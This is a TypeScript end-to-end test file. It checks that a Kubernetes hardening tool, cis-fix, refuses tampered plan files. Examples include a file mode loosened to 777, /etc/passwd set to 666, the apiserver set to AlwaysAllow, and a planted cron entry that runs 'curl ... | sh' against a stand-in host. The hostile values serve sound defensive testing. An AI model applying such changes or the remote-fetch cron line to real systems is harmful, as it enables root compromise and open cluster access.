import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { labDown, labUp, nodeExec, type LabState } from '../lab/lab.js';
import { runCli } from './support/cli.js';
import { differences, snapshotAll, type PathSnapshot } from './support/node-snapshot.js';

// Issue 9: a saved plan is checked, not trusted. On the drifted lab, with the
// kubeconfig inventory (so apply could take the Lease kube-system/cis-fix),
// each hand-edited plan file is refused with exit 1 naming the change and
// the field: no node file changes, no Lease is taken, no run is journaled.
const INSTANCE = 'e2e-tamper';
let lab: LabState;
let scratch: string;
let stateDir: string;
let planText: string;
let original: Map<string, Map<string, PathSnapshot>>;

const KUBECTL = fileURLToPath(new URL('../../.tools/kubectl', import.meta.url));
const run = promisify(execFile);
const cli = (...args: string[]) => runCli(args, { CIS_FIX_STATE_DIR: stateDir });

interface ChangeJson {
  id: string;
  node?: string;
  kind: string;
  target: string;
  precondition?: Record<string, unknown>;
  before?: Record<string, unknown>;
  after: Record<string, unknown> & { mode?: string; content?: string; argv?: string[]; sha256?: string };
  [key: string]: unknown;
}
interface PlanJson {
  changes: ChangeJson[];
}

beforeAll(async () => {
  lab = await labUp({ instance: INSTANCE, nodes: 2, scenario: 'drifted', recreate: true });
  scratch = mkdtempSync(join(tmpdir(), 'cisfix-tamper-'));
  stateDir = join(scratch, 'state');
  const planFile = join(scratch, 'plan.json');
  const planned = await cli('plan', '-i', lab.apiInventoryFile, '-o', planFile);
  expect(planned.code).toBe(0);
  planText = readFileSync(planFile, 'utf8');
  original = await snapshotAll(lab);
}, 240_000);

afterAll(async () => {
  await labDown(INSTANCE);
  rmSync(scratch, { recursive: true, force: true });
}, 120_000);

/** Write the plan with one edit, apply it, and check that nothing happened anywhere. */
async function applyTampered(name: string, edit: (plan: PlanJson) => void): Promise<{ stderr: string; stdout: string }> {
  const plan = JSON.parse(planText) as PlanJson;
  edit(plan);
  const file = join(scratch, `${name}.json`);
  writeFileSync(file, `${JSON.stringify(plan, null, 2)}\n`, { mode: 0o600 });
  const result = await cli('apply', file, '--yes');
  expect(result.code).toBe(1);
  expect(result.stdout).not.toContain('Apply complete');
  expect(result.stdout).not.toContain('holding Lease');
  expect(differences(original, await snapshotAll(lab))).toEqual([]);
  // No run was started: no journal, and the Lease does not exist.
  expect(existsSync(join(stateDir, 'runs')) ? readdirSync(join(stateDir, 'runs')) : []).toEqual([]);
  const lease = await run(KUBECTL, ['--kubeconfig', lab.kubeconfigFile, 'get', 'lease', '-n', 'kube-system', 'cis-fix', '-o', 'name']).catch(
    (error: { stderr: string }) => ({ stdout: '', stderr: error.stderr }),
  );
  expect(lease.stdout).toBe('');
  expect(lease.stderr).toMatch(/NotFound|not found/);
  return result;
}

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const find = (plan: PlanJson, test: (c: ChangeJson) => boolean): ChangeJson => {
  const change = plan.changes.find(test);
  if (!change) throw new Error('the drifted lab plan lacks the change this test edits');
  return change;
};

describe('cis-fix apply of a tampered plan file', () => {
  it('(a) refuses a mode loosened from 600 to 777, naming the change and after.mode', async () => {
    let id = '';
    const { stderr } = await applyTampered('loosened', (plan) => {
      const change = find(plan, (c) => c.kind === 'file-mode' && c.after.mode === '600');
      change.after.mode = '777';
      id = change.id;
    });
    expect(stderr).toContain(id);
    expect(stderr).toMatch(/after\.mode is "777" in the plan, but cis-fix would make it "600"/);
  });

  it('(b) refuses an extra change on /etc/passwd with a precondition rewritten to match the node', async () => {
    const passwd = await nodeExec(lab, 'cp-1', ['/bin/sh', '-c', 'sha256sum /etc/passwd | cut -d" " -f1; stat -c %a /etc/passwd']);
    const [hash, mode] = passwd.stdout.trim().split('\n');
    const { stderr } = await applyTampered('passwd', (plan) => {
      const template = find(plan, (c) => c.kind === 'file-mode' && c.node === 'cp-1');
      plan.changes.push({
        ...template,
        id: 'cp-1:file-mode:/etc/passwd',
        target: '/etc/passwd',
        precondition: { exists: true, sha256: hash, mode, uid: 0, gid: 0 },
        before: { mode },
        after: { mode: '666' },
        diff: `mode 0${mode} -> 0666`,
      });
    });
    expect(stderr).toContain('cp-1:file-mode:/etc/passwd');
    expect(stderr).toMatch(/cis-fix would not make this change/);
  });

  it('(c) refuses a manifest change whose content and argv say --authorization-mode=AlwaysAllow, naming after.content', async () => {
    let id = '';
    const { stderr } = await applyTampered('always-allow', (plan) => {
      const change = find(plan, (c) => c.kind === 'static-pod-manifest' && c.target.endsWith('kube-apiserver.yaml'));
      const content = String(change.after.content).replace(/--authorization-mode=[^\n"]*/, '--authorization-mode=AlwaysAllow');
      expect(content).toContain('AlwaysAllow');
      change.after.content = content;
      change.after.sha256 = sha256(content);
      change.after.argv = (change.after.argv ?? []).map((a) => (a.startsWith('--authorization-mode=') ? '--authorization-mode=AlwaysAllow' : a));
      id = change.id;
    });
    expect(stderr).toContain(id);
    expect(stderr).toMatch(
      /after\.content line \d+ is " +- --authorization-mode=AlwaysAllow" in the plan, but cis-fix would make it " +- --authorization-mode=(?!AlwaysAllow)/,
    );
  });

  it('(d) refuses an unknown change kind before connecting anywhere', async () => {
    const { stderr } = await applyTampered('unknown-kind', (plan) => {
      plan.changes[0]!.kind = 'shell-command';
    });
    expect(stderr).toMatch(/changes\[0\]\.kind: unknown kind "shell-command"/);
  });

  it('(e) refuses a change whose precondition was removed', async () => {
    let index = -1;
    const { stderr } = await applyTampered('no-precondition', (plan) => {
      index = plan.changes.findIndex((c) => c.kind === 'file-mode');
      delete plan.changes[index]!.precondition;
    });
    expect(stderr).toContain(`changes[${index}].precondition: missing`);
  });

  it('(f) refuses an added support-file change that would create /etc/cron.d/evil', async () => {
    const { stderr } = await applyTampered('cron', (plan) => {
      const template = find(plan, (c) => c.kind === 'support-file' && c.node === 'cp-1');
      const content = '* * * * * root /bin/sh -c "curl -s http://198.51.100.1/x | sh"\n';
      plan.changes.push({
        ...template,
        id: 'cp-1:support-file:/etc/cron.d/evil',
        target: '/etc/cron.d/evil',
        diff: `--- /dev/null\n+++ /etc/cron.d/evil\n+${content}`,
        after: { content, mode: '600', secrets: [], sha256: sha256(content) },
      });
    });
    expect(stderr).toContain('cp-1:support-file:/etc/cron.d/evil');
    expect(stderr).toMatch(/cis-fix would not make this change/);
    expect((await nodeExec(lab, 'cp-1', ['test', '-e', '/etc/cron.d/evil'])).code).not.toBe(0);
  });

  it('applies the untouched plan: its re-derived changes, the Lease taken and released', async () => {
    const file = join(scratch, 'plan.json');
    const result = await cli('apply', file, '--yes', '--health-timeout', '60s');
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('holding Lease kube-system/cis-fix');
    expect(result.stdout).toMatch(/Apply complete/);
    expect((await cli('plan', '-i', lab.apiInventoryFile, '--detailed-exitcode')).code).toBe(0);
  }, 300_000);
});
